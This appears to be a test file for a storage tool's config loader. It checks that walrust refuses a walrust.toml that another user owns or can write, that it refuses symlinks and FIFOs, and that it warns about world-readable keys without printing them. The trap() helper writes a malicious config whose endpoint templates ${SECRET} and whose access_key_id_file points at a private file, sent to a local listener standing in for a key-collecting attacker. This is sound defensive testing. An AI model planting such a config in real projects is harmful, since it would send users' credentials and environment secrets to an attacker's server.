/** A walrust.toml in the working directory: walrust reads it only if no other user can write it. */
import { expect, test } from "bun:test";
import { chmodSync, chownSync, lchownSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { isPrivateGroup } from "../../../src/config/private-group.ts";
import { runWalrust } from "../../support/processes/binary.ts";
import { tempFolder } from "../../support/temp.ts";

const OTHER_UID = 4242;
/** Only root can give a file away. */
const testAsRoot = test.skipIf(process.geteuid?.() !== 0);

/** A server that records its requests. It stands for an attacker who collects keys. */
function listener(): { url: string; asked: string[]; stop(): Promise<void> } {
  const asked: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    fetch(request) {
      asked.push(`${request.url} ${request.headers.get("authorization")}`);
      return new Response("", { status: 403 });
    },
  });
  return { url: `http://127.0.0.1:${server.port}`, asked, stop: () => server.stop(true) };
}

function trapIn(folder: string, endpoint: string): string {
  const path = join(folder, "walrust.toml");
  writeFileSync(join(folder, "secret"), "a-line-of-a-file-that-only-its-owner-reads", { mode: 0o600 });
  writeFileSync(
    path,
    `[s3]\nbucket = "s3://evil"\nendpoint = "${endpoint}/\${SECRET}"
access_key_id_file = "${join(folder, "secret")}"\nsecret_access_key = "x"\n`,
    { mode: 0o600 },
  );
  return path;
}

async function refusal(folder: string, asked: readonly string[]): Promise<string> {
  const env = { SECRET: "of-the-environment" };
  const run = await runWalrust(["list"], { cwd: folder, env });
  expect([run.exitCode, asked]).toEqual([2, []]);
  expect(run.stderr).not.toMatch(/of-the-environment|a-line-of-a-file/);
  return run.stderr;
}

testAsRoot("a walrust.toml of another user, or a link of theirs, sends nothing anywhere", async () => {
  const trap = listener();
  const folder = tempFolder("found");
  const path = trapIn(folder, trap.url);
  chownSync(path, OTHER_UID, OTHER_UID);
  expect(await refusal(folder, trap.asked)).toContain(`belongs to another user (uid ${OTHER_UID})`);

  const linked = tempFolder("found");
  const own = trapIn(tempFolder("own"), trap.url);
  symlinkSync(own, join(linked, "walrust.toml"));
  lchownSync(join(linked, "walrust.toml"), OTHER_UID, OTHER_UID);
  expect(await refusal(linked, trap.asked)).toContain(`belongs to another user (uid ${OTHER_UID})`);
  await trap.stop();
});

test("walrust ignores a walrust.toml that other users can write, unless --config names it", async () => {
  const trap = listener();
  const folder = tempFolder("found");
  const path = trapIn(folder, trap.url);
  chmodSync(path, 0o666);
  const stderr = await refusal(folder, trap.asked);
  expect(stderr).toContain("everybody may write to it");
  expect(stderr).toContain("--config walrust.toml");
  const named = await runWalrust(["list", "--config", "walrust.toml"], { cwd: folder, env: { SECRET: "s" } });
  expect([named.exitCode, trap.asked.length]).toEqual([4, 1]);
  const without = await runWalrust(["list", "--config", "/dev/null", "-b", `file://${folder}`], {
    cwd: folder,
  });
  expect(without.exitCode).toBe(0);
  await trap.stop();
});

/** A user whose group has no other member, as on most machines. */
const WWW_DATA = { uid: 33, gid: 33, groups: [33], umask: 0o002 };

test.skipIf(process.geteuid?.() !== 0 || !isPrivateGroup(WWW_DATA.gid, WWW_DATA.uid))(
  "a walrust.toml that a umask of 002 made writable for the user's own group is used",
  async () => {
    const folder = tempFolder("found");
    const path = join(folder, "walrust.toml");
    writeFileSync(path, `[s3]\nbucket = "file://${folder}"\n`);
    chmodSync(path, 0o664);
    for (const each of [folder, path]) chownSync(each, WWW_DATA.uid, WWW_DATA.gid);
    const run = await runWalrust(["list"], { cwd: folder, user: WWW_DATA });
    expect([run.exitCode, run.stderr]).toEqual([0, ""]);
    chownSync(path, WWW_DATA.uid, OTHER_UID);
    const refused = await runWalrust(["list"], { cwd: folder, user: WWW_DATA });
    expect([refused.exitCode, refused.stderr]).toEqual([
      2,
      expect.stringContaining("chmod go-w walrust.toml"),
    ]);
  },
);

test("a walrust.toml with world-readable keys causes one warning, without the keys", async () => {
  const folder = tempFolder("found");
  const path = join(folder, "walrust.toml");
  writeFileSync(path, `[s3]\nbucket = "file://${folder}"\nsecret_access_key = "hidden"\n`, { mode: 0o600 });
  expect((await runWalrust(["list"], { cwd: folder })).stderr).toBe("");
  chmodSync(path, 0o644);
  const { exitCode, stderr } = await runWalrust(["list"], { cwd: folder });
  expect(exitCode).toBe(0);
  expect(stderr.trimEnd().split("\n").length).toBe(1);
  expect(stderr).toContain("every user of this machine can read s3.secret_access_key in walrust.toml");
  expect(stderr).not.toContain("hidden");
  expect(readFileSync(path, "utf8")).toContain("hidden");
});

test("walrust refuses a FIFO in the place of walrust.toml at once", async () => {
  const folder = tempFolder("found");
  Bun.spawnSync(["mkfifo", join(folder, "walrust.toml")]);
  expect(await refusal(folder, [])).toContain("it is not a regular file");
});
